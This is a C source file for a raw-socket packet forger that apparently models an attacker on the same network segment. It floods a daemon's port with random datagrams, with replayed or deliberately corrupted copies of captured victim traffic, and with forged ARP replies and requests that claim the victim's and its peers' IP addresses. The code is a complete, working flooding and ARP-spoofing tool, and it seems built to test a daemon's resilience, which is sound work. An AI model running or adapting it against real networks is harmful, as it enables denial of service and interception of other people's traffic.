/* Somebody on the same segment who floods the port of a daemon that drives its NIC itself.
 *
 *   forger DEVICE MODE CAPTURE MAC SECONDS PER_SECOND
 *
 * CAPTURE is a file of tcpdump with whole packets of the victim's flows, without VLAN tags; MAC is where to send to.
 * Sends from DEVICE, with its own MAC address, as fast as it can, or so many frames a second:
 *
 *   random      datagrams of random bytes, with random lengths
 *   tags        captured packets with numbers and bytes that are not theirs: what proves them is wrong
 *   replay      captured packets as they were
 *   neighbours  ARP: answers and questions that say that this MAC address has the addresses of the victim and its peers
 *
 * and prints how many. All have DSCP 0: a network that lets strangers choose another one has no classes. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { kBurst = 32, kMost = 4096, kLongest = 1514, kHeaders = 42 };

static struct {
  unsigned bytes;
  unsigned char data[kLongest];
} captured[kMost];
static unsigned captures;
static unsigned char own[6], victim[6];
static uint64_t seed = 88172645463325252u;

static void fail(const char* what) {
  perror(what);
  exit(1);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint64_t draw(void) {
  seed ^= seed << 13;
  seed ^= seed >> 7;
  seed ^= seed << 17;
  return seed;
}

static void read_captures(const char* path) {
  FILE* file = fopen(path, "rb");
  uint32_t head[6];
  if (file == NULL || fread(head, 24, 1, file) != 1) fail(path);
  while (captures < kMost && fread(head, 16, 1, file) == 1 && head[2] <= kLongest) {
    captured[captures].bytes = head[2];
    if (fread(captured[captures].data, head[2], 1, file) != 1) break;
    captures += head[2] > kHeaders + 16;
  }
  fclose(file);
  if (captures == 0) {
    fprintf(stderr, "%s has no packets\n", path);
    exit(1);
  }
}

static void finish_ipv4(unsigned char* ip, unsigned bytes) {
  uint32_t sum = 0;
  ip[1] = 0;
  ip[2] = (unsigned char)(bytes >> 8);
  ip[3] = (unsigned char)bytes;
  ip[10] = ip[11] = 0;
  for (int i = 0; i < 20; i += 2) sum += (uint32_t)ip[i] << 8 | ip[i + 1];
  sum = (sum & 0xffff) + (sum >> 16);
  sum = ~((sum & 0xffff) + (sum >> 16));
  ip[10] = (unsigned char)(sum >> 8);
  ip[11] = (unsigned char)sum;
  ip[20 + 4] = (unsigned char)((bytes - 20) >> 8);
  ip[20 + 5] = (unsigned char)(bytes - 20);
  ip[20 + 6] = ip[20 + 7] = 0; /* no checksum, which IPv4 allows */
}

/* A frame of ARP about an address of the capture. */
static unsigned forge_neighbour(unsigned char* frame, const unsigned char* seen) {
  static const unsigned char kind[] = {8, 6, 0, 1, 8, 0, 6, 4, 0};
  const int question = draw() % 4 == 0;
  if (question) memset(frame, 0xff, 6);
  memcpy(frame + 12, kind, sizeof kind);
  frame[21] = question ? 1 : 2;
  memcpy(frame + 22, own, 6);
  memcpy(frame + 28, seen + (draw() % 2 ? 26 : 30), 4);
  memcpy(frame + 32, victim, 6);
  memcpy(frame + 38, seen + 30, 4);
  return kHeaders;
}

static unsigned forge(unsigned char* frame, const char* mode) {
  const unsigned i = (unsigned)(draw() % captures);
  unsigned bytes = captured[i].bytes;
  memcpy(frame, captured[i].data, bytes);
  memcpy(frame, victim, 6);
  memcpy(frame + 6, own, 6);
  if (mode[0] == 'n') return forge_neighbour(frame, captured[i].data);
  if (mode[0] == 't') {
    const unsigned from = kHeaders + 8; /* behind the association, the version and the class */
    for (unsigned k = 0; k < 8; ++k) frame[from + k] ^= (unsigned char)(draw() & (k < 2 ? 0xff : 0));
    for (unsigned k = from + 8; k < bytes; k += 97) frame[k] ^= (unsigned char)draw();
  } else if (mode[0] == 'r' && mode[1] == 'a') {
    bytes = kHeaders + (unsigned)(draw() % (kLongest - kHeaders));
    for (unsigned k = kHeaders; k < bytes; k += 8) {
      const uint64_t word = draw();
      memcpy(frame + k, &word, bytes - k < 8 ? bytes - k : 8);
    }
  }
  finish_ipv4(frame + 14, bytes - 14);
  return bytes;
}

static int open_device(const char* device) {
  struct ifreq request = {0};
  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) fail("packet socket");
  strncpy(request.ifr_name, device, IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFHWADDR, &request) != 0) fail(device);
  memcpy(own, request.ifr_hwaddr.sa_data, 6);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(device)};
  if (bind(fd, (struct sockaddr*)&to, sizeof to) != 0) fail(device);
  return fd;
}

int main(int argc, char** argv) {
  static unsigned char frames[kBurst][kLongest + 8];
  struct mmsghdr messages[kBurst] = {0};
  struct iovec parts[kBurst];
  if (argc != 7) {
    fprintf(stderr, "usage: forger DEVICE random|tags|replay|neighbours CAPTURE MAC SECONDS PER_SECOND\n");
    return 2;
  }
  const int fd = open_device(argv[1]);
  read_captures(argv[3]);
  if (sscanf(argv[4], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &victim[0], &victim[1], &victim[2], &victim[3], &victim[4],
             &victim[5]) != 6)
    fail(argv[4]);
  const double begin = now(), end = begin + atof(argv[5]), rate = atof(argv[6]);
  uint64_t sent = 0;
  while (now() < end) {
    if (rate > 0 && (double)sent > (now() - begin) * rate) {
      usleep(200);
      continue;
    }
    for (int i = 0; i < kBurst; ++i) {
      parts[i].iov_base = frames[i];
      parts[i].iov_len = forge(frames[i], argv[2]);
      messages[i].msg_hdr.msg_iov = &parts[i];
      messages[i].msg_hdr.msg_iovlen = 1;
    }
    const int done = sendmmsg(fd, messages, kBurst, 0);
    if (done > 0) sent += (uint64_t)done;
  }
  printf("%llu\n", (unsigned long long)sent);
  return 0;
}
